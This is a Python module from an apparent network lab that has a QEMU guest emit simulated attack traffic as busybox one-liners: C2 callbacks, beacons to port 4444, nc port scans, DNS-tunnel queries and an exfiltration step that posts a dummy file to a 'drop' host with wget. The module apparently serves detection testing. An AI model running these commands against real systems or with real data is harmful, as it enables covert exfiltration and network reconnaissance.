"""The attacks as a QEMU guest makes them: one line of its shell each turn, since it has busybox and no Python."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path

from netpersona.app.lab import guest
from netpersona.app.lab.attacks.order import Order, Tally
from netpersona.app.lab.layout import CONTROL, CONTROL_NAME, DROP, RENDEZVOUS, RESOLVER, TUNNEL, WEB, Peer

PATIENCE = 20.0  # seconds for one turn, under emulation


def run(folder: Path, attack: str, order: Order, tally: Tally) -> str:
    """Attack from the guest; what was done, in words.  Raises KeyError for an attack that a guest cannot make."""
    line, what = LINES[attack]
    for number, family in order.turns():
        code, _ = guest.run(folder, ["sh", "-c", line(number, family)], PATIENCE)
        tally.answer() if code == 0 else tally.failure("no answer")
    return f"{what}, from the guest"


def _callback(number: int, family: int) -> str:  # noqa: ARG001 - every line has both
    return (
        f"nslookup {CONTROL_NAME} >/dev/null; "
        f"timeout 3 wget -q -O /dev/null --header 'Host: {CONTROL_NAME}' {_at(CONTROL, family)}:8443/bytes/180"
    )


def _beacon(number: int, family: int) -> str:  # noqa: ARG001
    return f"timeout 3 wget -q -O /dev/null --post-data {'0' * 64} {_at(RENDEZVOUS, 4)}:4444/"


def _scan(number: int, family: int) -> str:
    # 1: refused or no answer; a service that is there keeps nc waiting
    return f"timeout 1 nc -w 1 {WEB.address(family)} {20 + number} </dev/null >/dev/null 2>&1; [ $? != 1 ]"


def _tunnel(number: int, family: int) -> str:
    data = hashlib.sha512(b"%d" % number).hexdigest()
    return f"nslookup -type=txt {data[:60]}.{data[60:120]}.{TUNNEL} {RESOLVER.address(family)} >/dev/null"


def _exfiltration(number: int, family: int) -> str:  # noqa: ARG001
    make = "[ -s /tmp/file ] || head -c 1000000 /dev/zero >/tmp/file"
    return f"{make}; timeout 10 wget -q -O /dev/null --post-file /tmp/file {_at(DROP, 4)}/upload"


def _at(peer: Peer, family: int) -> str:
    return f"http://{peer.v4}" if family == 4 else f"http://[{peer.v6}]"


LINES: dict[str, tuple[Callable[[int, int], str], str]] = {
    "callback": (_callback, f"calls to {CONTROL_NAME}, tcp port 8443"),
    "beacon": (_beacon, f"calls to {RENDEZVOUS.v4}, tcp port 4444"),
    "scan": (_scan, f"connections to ports of {WEB.name}"),
    "dns-tunnel": (_tunnel, f"questions for names below {TUNNEL}"),
    "exfiltration": (_exfiltration, f"megabytes sent to {DROP.v4}, tcp port 80"),
}
"""By attack: the line of each turn (number, family), and what it is in words."""
